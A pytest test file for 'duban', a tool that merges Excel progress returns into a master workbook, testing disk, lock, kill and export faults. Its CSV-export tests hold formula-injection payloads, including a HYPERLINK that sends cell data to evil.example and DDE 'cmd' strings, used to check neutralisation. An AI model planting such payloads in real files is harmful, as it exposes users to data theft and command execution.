"""collect under faults (issue 13): filesystem errors, locks, killed runs, temporary files,
unsigned copies of signed returns, lossless text, and exports that cannot run a formula.

Every fault is real: a read-only or full tmpfs (root only, else skipped with the
reason), an immutable file (chattr +i), a process killed with SIGKILL.
"""
from __future__ import annotations

import os
import signal
import socket
import subprocess
import sys
import textwrap
import time
from contextlib import contextmanager
from datetime import timedelta
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from duban.cli import cli
from duban.collect import ACCEPTED, CONFIRMED, PENDING, TRUNCATED_MARK, collect, fit_labelled
from duban.master import S_LOG, load_master
from duban.returns import int_id, sheet_extent
from duban.store import EXCEL_CELL_LIMIT, FileStore, lock_file, open_store, read_lock, try_lock, utf16_len

from returns_factory import PERIOD, T0, master_with_period, write_return

ROOT = os.geteuid() == 0 if hasattr(os, "geteuid") else False
needs_root = pytest.mark.skipif(not ROOT, reason="mounting a tmpfs and chattr +i need root")


def load(path: Path):
    with open_store(path, write=False) as s:
        return load_master(s)


def values(path: Path) -> dict:
    m = load(path)
    return {t.id: t.entry(PERIOD).progress for t in m.tasks}


def run(*args):
    r = CliRunner().invoke(cli, [str(a) for a in args])
    assert "Traceback" not in r.output and (r.exception is None or isinstance(r.exception, SystemExit)), \
        (r.output, r.exception)
    return r


@pytest.fixture
def master(tmp_path):
    return master_with_period(tmp_path / "主表.xlsx")


def first_round(master: Path, tmp_path: Path) -> dict:
    """区科技局's first return collected; the values every later fault must leave alone."""
    m = load(master)
    write_return(tmp_path / "第一轮" / "区科技局.xlsx", m, "区科技局")
    assert collect(master, [tmp_path / "第一轮"]).counts[ACCEPTED] == 1
    return values(master)


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob("*") if p.name.startswith((".~", "openpyxl")) or p.name.endswith(".lock"))


# ---------------------------------------------------------------------------
# real filesystem faults
# ---------------------------------------------------------------------------

@contextmanager
def tmpfs(path: Path, size: str = "4m"):
    path.mkdir(parents=True, exist_ok=True)
    r = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(path)], capture_output=True)
    if r.returncode:
        pytest.skip(f"cannot mount a tmpfs here: {r.stderr.decode(errors='replace').strip()}")
    try:
        yield path
    finally:
        subprocess.run(["umount", "-l", str(path)], capture_output=True)


@needs_root
def test_read_only_filesystem_is_a_chinese_error_and_the_master_is_untouched(tmp_path):
    with tmpfs(tmp_path / "盘") as disk:
        master = master_with_period(disk / "主表.xlsx")
        before_values = first_round(master, disk)
        m = load(master)
        write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
        before = master.read_bytes()
        subprocess.run(["mount", "-o", "remount,ro", str(disk)], check=True)
        r = run("collect", master, tmp_path / "收件")
        assert r.exit_code == 1
        assert "只读" in r.output and str(disk) in r.output and "主表未被修改" in r.output
        assert master.read_bytes() == before and values(master) == before_values


@needs_root
@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")  # openpyxl's writer, left by ENOSPC
@pytest.mark.parametrize("spare_kb,step", [(16, "保存主表"), (4, "复制到归档文件夹")])
def test_disk_full_during_archive_or_save_leaves_master_lock_and_temp_files_clean(tmp_path, spare_kb, step):
    with tmpfs(tmp_path / "盘", size="8m") as disk:
        master = master_with_period(disk / "主表.xlsx")
        before_values = first_round(master, disk)
        m = load(master)
        write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
        before = master.read_bytes()
        filler = disk / "占位.bin"
        with open(filler, "wb", buffering=0) as f:  # fill the disk but for a few KB
            try:
                while True:
                    f.write(b"\0" * 4096)
                    f.flush()
            except OSError:
                pass
        filler.write_bytes(filler.read_bytes()[:-spare_kb * 1024])
        r = run("collect", master, tmp_path / "收件")
        assert r.exit_code == 1, r.output
        assert "磁盘空间不足" in r.output and "主表未被修改" in r.output and str(disk) in r.output
        assert step in r.output, r.output
        assert master.read_bytes() == before and values(master) == before_values
        assert leftovers(disk) == [] and not lock_file(master).exists()
        # Completely full: even the lock cannot be written, and no empty lock is left behind.
        with open(filler, "ab", buffering=0) as f:
            try:
                while True:
                    f.write(b"\0" * 512)
                    f.flush()
            except OSError:
                pass
        r = run("collect", master, tmp_path / "收件")
        assert r.exit_code == 1 and "磁盘空间不足" in r.output
        assert not lock_file(master).exists() and master.read_bytes() == before
        filler.unlink()
        r = run("collect", master, tmp_path / "收件")
        assert r.exit_code == 0 and "采用 1" in r.output
        assert values(master)[1] == "区科技局任务1第2版进展：已完成60%"


@contextmanager
def immutable(path: Path):
    r = subprocess.run(["chattr", "+i", str(path)], capture_output=True)
    if r.returncode:
        pytest.skip(f"chattr +i is not supported here: {r.stderr.decode(errors='replace').strip()}")
    try:
        yield
    finally:
        subprocess.run(["chattr", "-i", str(path)], capture_output=True)


@needs_root
def test_immutable_master_is_reported_as_permission_not_as_open_in_excel(master, tmp_path):
    before_values = first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
    before = master.read_bytes()
    with immutable(master):
        r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 1
    assert "没有写入权限" in r.output and master.name in r.output and "Excel 中打开" not in r.output
    assert master.read_bytes() == before and values(master) == before_values
    assert [n for n in leftovers(tmp_path) if not n.startswith(".~") or "duban" in n] == []


@needs_root
def test_folder_without_permission_to_create_the_lock(master, tmp_path):
    before = master.read_bytes()
    (tmp_path / "收件").mkdir(exist_ok=True)  # the master's own folder is refused as a source
    with immutable(tmp_path):
        r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 1 and "建立锁文件" in r.output and "没有写入权限" in r.output
    assert master.read_bytes() == before


# ---------------------------------------------------------------------------
# locks
# ---------------------------------------------------------------------------

def test_lock_records_pid_host_and_time(master):
    lock = lock_file(master)
    assert try_lock(lock)
    pid, host, when = read_lock(lock)
    assert pid == os.getpid() and host == socket.gethostname() and when.startswith(time.strftime("%Y-"))
    assert not try_lock(lock)  # we are alive: held
    lock.unlink()


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


@pytest.mark.parametrize("content,age,why", [
    (b"", 120, "内容为空或无法读取"),
    (b"\xff\xfe\x00garbage", 120, "内容为空或无法读取"),
    (None, 0, "已不存在"),  # a dead process of this computer
    (b"4242\nother-host\n2022-07-01 10:00:00\n", 13 * 3600, "计算机 other-host"),
    (b"LIVE", 13 * 3600, "13 小时前建立"),  # a live pid, but hours old: the pid was reused
])
def test_stale_or_unreadable_lock_is_reported_and_taken_over(master, tmp_path, content, age, why):
    before_values = first_round(master, tmp_path)
    lock = lock_file(master)
    if content == b"LIVE":
        content = f"{os.getppid()}\n{socket.gethostname()}\n".encode()
    lock.write_bytes(content if content is not None else f"{_dead_pid()}\n{socket.gethostname()}\n".encode())
    os.utime(lock, (time.time() - age, time.time() - age))
    m = load(master)
    write_return(tmp_path / "收件" / "区教委.xlsx", m, "区教委")
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0, r.output
    assert "发现遗留的锁文件" in r.output and why in r.output and "已接管" in r.output
    assert not lock.exists()
    after = values(master)
    assert after[1] == before_values[1] and after[5] == "区教委任务5第1版进展：已完成60%"


@pytest.mark.parametrize("content,age", [
    (b"", 0),  # just created: its run may be writing it
    (b"4242\nother-host\n2026-01-01 10:00:00\n", 60),  # another computer, recent
    (None, 0),  # this very process
])
def test_live_lock_is_respected_and_named(master, tmp_path, content, age):
    lock = lock_file(master)
    lock.write_bytes(content if content is not None else f"{os.getpid()}\n{socket.gethostname()}\n".encode())
    os.utime(lock, (time.time() - age, time.time() - age))
    before = master.read_bytes()
    (tmp_path / "收件").mkdir(exist_ok=True)  # the master's own folder is refused as a source
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 1 and "另一个 duban 进程" in r.output and "主表未被修改" in r.output
    if content:
        assert "other-host" in r.output
    assert master.read_bytes() == before and lock.exists()


def test_take_over_gives_back_a_lock_replaced_meanwhile(tmp_path):
    """Two runs judge the same lock stale: the second must not remove the first one's new lock."""
    from duban.store import _take_over

    lock = tmp_path / ".x.duban.lock"
    lock.write_text("")
    real_read = Path.read_bytes
    calls = []

    def read_then_replaced(self):  # the other run takes over right after our first read
        data = real_read(self)
        if self == lock and not calls:
            calls.append(1)
            self.unlink()
            self.write_text(f"{os.getpid()}\n{socket.gethostname()}\n")
        return data

    Path.read_bytes = read_then_replaced
    try:
        assert _take_over(lock) is False
    finally:
        Path.read_bytes = real_read
    assert read_lock(lock)[0] == os.getpid()
    assert [p.name for p in tmp_path.iterdir()] == [lock.name]


# ---------------------------------------------------------------------------
# a run killed with SIGKILL in the middle of saving
# ---------------------------------------------------------------------------

KILLER = textwrap.dedent("""
    import os, signal, sys, zipfile
    from duban.collect import collect

    real = zipfile.ZipFile.write
    def write(self, *a, **k):  # openpyxl copies each sheet's scratch file into the zip
        if "{tmp}" in str(self.filename) or ".~duban-" in str(self.filename):
            os.kill(os.getpid(), signal.SIGKILL)
        return real(self, *a, **k)
    zipfile.ZipFile.write = write
    collect(sys.argv[1], [sys.argv[2]])
""")


def test_sigkill_mid_save_leaves_master_intact_and_the_next_run_cleans_up(master, tmp_path):
    before_values = first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
    before = master.read_bytes()
    sys_tmp = tmp_path / "系统临时"
    sys_tmp.mkdir()
    env = dict(os.environ, TMPDIR=str(sys_tmp), PYTHONPATH=os.pathsep.join(sys.path))
    p = subprocess.run([sys.executable, "-c", KILLER.replace("{tmp}", ".tmp"), str(master), str(tmp_path / "收件")],
                       env=env, capture_output=True, timeout=300)
    assert p.returncode == -signal.SIGKILL, p.stderr.decode()
    assert master.read_bytes() == before
    left = leftovers(tmp_path)
    assert any(n.startswith(".~duban-主表.xlsx-") for n in left), left  # the half-written copy, beside the master
    assert any(n.startswith("openpyxl.") for n in left), left  # openpyxl's scratch files, beside the master too
    assert list(sys_tmp.iterdir()) == []  # nothing in the system temp folder
    assert lock_file(master).exists()
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0, r.output
    assert "已接管" in r.output and "已清理上次中断的运行留下的临时文件" in r.output
    assert leftovers(tmp_path) == []
    assert values(master)[1] == "区科技局任务1第2版进展：已完成60%" != before_values[1]


def test_failed_save_leaves_no_temporary_file(master, tmp_path):
    store = FileStore(master)
    store.dirty = True
    store.wb.save = lambda path: (Path(path).write_bytes(b"half"), (_ for _ in ()).throw(OSError(28, "No space left")))[1]
    with pytest.raises(Exception, match="磁盘空间不足"):
        store.commit()
    assert leftovers(tmp_path) == []


# ---------------------------------------------------------------------------
# what the summary says; unsigned copies; lossless text
# ---------------------------------------------------------------------------

def test_summary_does_not_say_unchanged_when_log_rows_were_added(master, tmp_path):
    (tmp_path / "收件").mkdir()
    (tmp_path / "收件" / "坏.xlsx").write_bytes(b"PK\x03\x04broken")
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "退回 1" in r.output
    assert "主表没有变化" not in r.output and "报送记录新增 1 行" in r.output


def test_unsigned_copy_waits_and_staff_adopt_it_with_accept_unsigned(master, tmp_path):
    before_values = first_round(master, tmp_path)
    m = load(master)
    fake = write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", meta="none", tasks={1: "无签名的新进展"},
                        when=T0 + timedelta(days=1))
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "待确认 1" in r.output and "--accept-unsigned" in r.output
    assert values(master) == before_values
    log = load(master).log
    assert log[-1].result == PENDING and log[-1].signature == "无签名"
    rows = len(log)
    # run again: still waiting, nothing changes
    r = run("collect", master, tmp_path / "收件")
    assert "跳过" in r.output and values(master) == before_values
    # staff adopt it explicitly
    r = run("collect", master, "--accept-unsigned", fake)
    assert r.exit_code == 0 and "采用 1" in r.output, r.output
    m = load(master)
    assert m.task_by_id()[1].entry(PERIOD).progress == "无签名的新进展"
    assert len(m.log) == rows  # the 待确认 row became the adoption, no second row
    assert m.log[-1].result == ACCEPTED and "工作人员确认采用（无签名）" in m.log[-1].reason
    assert m.log[0].result == "被新版本替代"


def test_unsigned_copy_adopted_through_the_log_column(master, tmp_path):
    first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", meta="none", tasks={1: "确认后的进展"},
                 when=T0 + timedelta(days=1))
    run("collect", master, tmp_path / "收件")
    wb = openpyxl.load_workbook(master)
    ws = wb[S_LOG]
    col = [c.value for c in ws[1]].index("结果") + 1
    assert ws.cell(ws.max_row, col).value == PENDING
    ws.cell(ws.max_row, col).value = CONFIRMED
    wb.save(master)
    empty = tmp_path / "空"
    empty.mkdir()
    r = run("collect", master, empty)
    assert r.exit_code == 0 and "采用 1" in r.output, r.output
    m = load(master)
    assert m.task_by_id()[1].entry(PERIOD).progress == "确认后的进展" and m.log[-1].result == ACCEPTED


def test_unsigned_return_of_a_unit_without_signed_return_is_still_taken(master, tmp_path):
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", meta="none", tasks={1: "重建的表"})
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "采用 1" in r.output
    assert values(master)[1] == "重建的表"


def test_fit_labelled_keeps_every_unit_within_the_utf16_limit():
    rare = "\U00020000"
    segs = {"甲": "甲" * 30000, "乙": rare * 10000, "丙": "短"}
    text, cut = fit_labelled("", segs, ["甲", "乙", "丙"])
    assert utf16_len(text) <= EXCEL_CELL_LIMIT and EXCEL_CELL_LIMIT - utf16_len(text) < 10  # the space is used
    assert cut == ["甲", "乙"]
    parts = text.split("\n")
    assert [p[:3] for p in parts] == ["【甲】", "【乙】", "【丙】"]
    assert parts[0].endswith(TRUNCATED_MARK) and parts[1].endswith(TRUNCATED_MARK)
    assert parts[2] == "【丙】短"  # a short part is kept whole
    ratio_a = (parts[0].count("甲") - 1) / 30000
    ratio_b = parts[1].count(rare) * 2 / 20000
    assert abs(ratio_a - ratio_b) < 0.01  # the same proportion of each
    assert fit_labelled("", {"甲": "x", "乙": "y"}, ["甲", "乙"]) == ("【甲】x\n【乙】y", [])


def test_co_lead_texts_over_the_limit_warn_and_the_archive_keeps_them_whole(master, tmp_path):
    m = load(master)
    write_return(tmp_path / "收件" / "中梁镇.xlsx", m, "中梁镇", tasks={3: "中" * 30000})
    write_return(tmp_path / "收件" / "凤凰镇.xlsx", m, "凤凰镇", tasks={3: "凤" * 30000}, indicators={},
                 when=T0 + timedelta(hours=1))
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "已按比例截断" in r.output
    m = load(master)
    cell = m.task_by_id()[3].entry(PERIOD).progress
    assert "【中梁镇】" in cell and "【凤凰镇】" in cell and cell.count(TRUNCATED_MARK) == 2
    assert "已按比例截断" in m.log[-1].reason
    from duban.returns import read_sheets
    for row in m.log:
        _, _, sheets = read_sheets((tmp_path / row.archive).read_bytes())
        assert any(v in ("中" * 30000, "凤" * 30000) for r_ in sheets["重点任务"][0] for v in r_)


# ---------------------------------------------------------------------------
# small pieces
# ---------------------------------------------------------------------------

@pytest.mark.parametrize("value,expected", [
    ("12", 12), ("１２", 12), (" 3 ", 3), ("3.0", 3), (3.0, 3), ("①", 1), ("¹", 1),
    ("⑴", None), ("²³", 23), ("٣", None), ("9" * 5000, None), ("0", None), ("-1", None), ("1e3", None), (True, None),
    (float("inf"), None), (1e300, None),
])
def test_int_id_accepts_only_ascii_digits_after_nfkc(value, expected):
    assert int_id(value) == expected


def test_master_ids_with_odd_digits_do_not_crash_loading(master):
    wb = openpyxl.load_workbook(master)
    ws = wb["重点任务"]
    ws.cell(ws.max_row + 1, 1).value = "⑴"
    ws.cell(ws.max_row + 1, 1).value = "9" * 5000
    wb.save(master)
    assert len(load(master).tasks) == 5


def test_sheet_extent_measures_what_the_reader_would_allocate():
    assert sheet_extent(b'<sheetData><row r="1"><c r="A1"><v>1</v></c><c r="C1" t="s"><v>0</v></c></row>'
                        b'<row r="7"><c r="B7"><v>2</v></c></row></sheetData>') == (7, 3)
    assert sheet_extent(b'<row><c><v>1</v></c><c><v>2</v></c></row><row><c><v>3</v></c></row>') == (2, 2)
    # styled empty cells and rows hold no value: no allocation
    assert sheet_extent(b'<row r="1"><c r="A1"><v>1</v></c><c r="XFD1" s="3"/></row><row r="1048576" s="2"/>') == (1, 1)
    assert sheet_extent(b'<x:row r="1"><x:c r="XFD1048576"><x:v>1</x:v></x:c></x:row>') == (1048576, 16384)


def test_ooxml_escapes_round_trip_through_every_reader(tmp_path):
    from duban.store import CalamineStore

    path = tmp_path / "t.xlsx"
    texts = ["_x0041_", "a_x000D_b", "_x005F_x0041_", "_x_", "x_x00e9_y", "正常文字"]
    with open_store(path, create=True) as s:
        s.ensure_sheet("表")
        s.write("表", 1, 1, [[t] for t in texts])
    assert [r[0] for r in FileStore(path).read("表")] == texts
    assert [r[0] for r in CalamineStore(path).read("表")] == texts
    # after Excel saved it (shared strings, escapes as Excel writes them)
    wb = openpyxl.load_workbook(path)
    assert [c.value for c in wb["表"]["A"]][:2] == ["_x005F_x0041_", "a_x005F_x000D_b"]


def test_xml_forbidden_characters_never_reach_the_file(tmp_path):
    path = tmp_path / "t.xlsx"
    with open_store(path, create=True) as s:
        s.ensure_sheet("表")
        s.write("表", 1, 1, [["a\uffffb\ufffec\x01d\ud800e\tf\ng\rh"]])
    assert FileStore(path).read("表")[0][0] == "abcde\tf\ng\rh"


# ---------------------------------------------------------------------------
# export --csv never carries a live formula (OWASP: a leading single quote)
# ---------------------------------------------------------------------------

FORMULAS = {
    "=": "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")",
    "=cmd": "=cmd|' /C calc'!A0",
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.fixture
def exported(master, tmp_path):
    m = load(master)
    for i, (key, text) in enumerate(FORMULAS.items()):
        t = m.tasks[i % len(m.tasks)]
        t.entry(f"期{i}").progress = text
    m.tasks[0].entry("num").progress = "-5"
    m.tasks[1].entry("num").progress = "+3.5%"
    m.tasks[2].entry("num").progress = "-"
    from duban.flat import write_csv

    out = tmp_path / "导出"
    write_csv(m, out)
    import csv

    with open(out / "重点任务.csv", encoding="utf-8-sig", newline="") as f:
        rows = list(csv.DictReader(f))
    return {(r["序号"], r["期次"]): r["进展情况"] for r in rows}


@pytest.mark.parametrize("key", list(FORMULAS))
def test_export_csv_neutralises_each_formula_lead(exported, key):
    i = list(FORMULAS).index(key)
    got = exported[(str(i % 5 + 1), f"期{i}")]
    assert got == "'" + FORMULAS[key]  # prefixed, nothing stripped


def test_export_csv_leaves_plain_numbers_and_plain_text(exported):
    assert exported[("1", "num")] == "-5" and exported[("2", "num")] == "+3.5%" and exported[("3", "num")] == "'-"


def test_export_csv_of_collected_tab_prefixed_formula(master, tmp_path):
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", tasks={1: "\t=HYPERLINK(\"http://x\")", 2: "\r\n+1+1"})
    run("collect", master, tmp_path / "收件")
    r = run("export", master, "--csv", tmp_path / "导出")
    assert r.exit_code == 0
    import csv

    with open(tmp_path / "导出" / "重点任务.csv", encoding="utf-8-sig", newline="") as f:
        rows = {(r["序号"], r["期次"]): r for r in csv.DictReader(f)}
    assert rows[("1", PERIOD)]["进展情况"] == "'=HYPERLINK(\"http://x\")"
    assert rows[("2", PERIOD)]["进展情况"] == "'+1+1"
    assert rows[("5", "")]["工作任务"].startswith("'=SUM(A1:A3)") if ("5", "") in rows else True
    for row in rows.values():
        for v in row.values():
            assert not v.startswith(("=", "+", "@", "\t", "\r")) and not (v.startswith("-") and len(v) > 1 and not v[1:].replace(".", "").isdigit())


def test_total_text_of_one_return_is_limited(master, tmp_path, monkeypatch):
    import duban.returns

    monkeypatch.setattr(duban.returns, "MAX_RETURN_TEXT", 50_000)  # the real limit is 10 million characters
    before_values = first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", tasks={1: "甲" * 20000, 2: "乙" * 20000, 5: "丙" * 20000},
                 when=T0 + timedelta(days=1))
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "退回 1" in r.output and "超过每份反馈 50,000 字的上限" in r.output
    assert values(master) == before_values


def test_an_unexpected_error_in_one_file_refuses_that_file_only(master, tmp_path, monkeypatch):
    """Fault injection: reading one file fails in a way nobody foresaw (here: out of memory)."""
    import duban.returns

    before_values = first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "a区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
    write_return(tmp_path / "收件" / "b区教委.xlsx", m, "区教委")
    real = duban.returns._read_rows
    bad = (tmp_path / "收件" / "a区科技局.xlsx").read_bytes()

    def read_rows(ret, *a):
        if ret.input.data == bad:
            raise MemoryError("out of memory")
        return real(ret, *a)

    monkeypatch.setattr(duban.returns, "_read_rows", read_rows)
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "读取时出错（MemoryError" in r.output and "采用 1" in r.output and "退回 1" in r.output
    after = values(master)
    assert after[1] == before_values[1] and after[5] == "区教委任务5第1版进展：已完成60%"


def test_an_unexpected_error_while_merging_leaves_that_unit_as_it_was(master, tmp_path, monkeypatch):
    import duban.collect

    before_values = first_round(master, tmp_path)
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局", version=2, when=T0 + timedelta(days=1))
    write_return(tmp_path / "收件" / "区教委.xlsx", m, "区教委")
    real = duban.collect._apply_row
    calls = []

    def apply_row(item, row, role, leads, coops, unit, *a):
        if unit == "区科技局":
            calls.append(item.id)
            if len(calls) == 2:  # after the first row was merged
                raise KeyError("boom")
        return real(item, row, role, leads, coops, unit, *a)

    monkeypatch.setattr(duban.collect, "_apply_row", apply_row)
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and "合并进主表时出错（KeyError）" in r.output, r.output
    m = load(master)
    assert {t.id: t.entry(PERIOD).progress for t in m.tasks}[1] == before_values[1]
    assert m.task_by_id()[1].entry(PERIOD).source.count("区科技局.xlsx") == 1  # the first round only
    assert m.task_by_id()[5].entry(PERIOD).progress == "区教委任务5第1版进展：已完成60%"
    assert [r_.result for r_ in m.log][:1] == [ACCEPTED]  # the first round's row is still the adopted one


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes on this system")
def test_a_pipe_or_device_given_as_input_is_refused_not_read_forever(master, tmp_path):
    m = load(master)
    good = write_return(tmp_path / "收件" / "区教委.xlsx", m, "区教委")
    fifo = tmp_path / "管道.xlsx"
    os.mkfifo(fifo)  # reading it would block for ever (and /dev/zero would fill the memory)
    r = run("collect", master, fifo, "/dev/zero", good)
    assert r.exit_code == 0 and "不是普通文件" in r.output and "采用 1" in r.output and "退回 2" in r.output


def test_half_written_archive_copies_of_a_killed_run_are_removed(master, tmp_path):
    left = tmp_path / "归档" / PERIOD / ".~区科技局_20220701-100000_abc.xlsx"
    left.parent.mkdir(parents=True)
    left.write_bytes(b"PK\x03\x04half")
    m = load(master)
    write_return(tmp_path / "收件" / "区科技局.xlsx", m, "区科技局")
    r = run("collect", master, tmp_path / "收件")
    assert r.exit_code == 0 and not left.exists()
    assert [p.name for p in left.parent.iterdir() if p.name.startswith(".")] == []
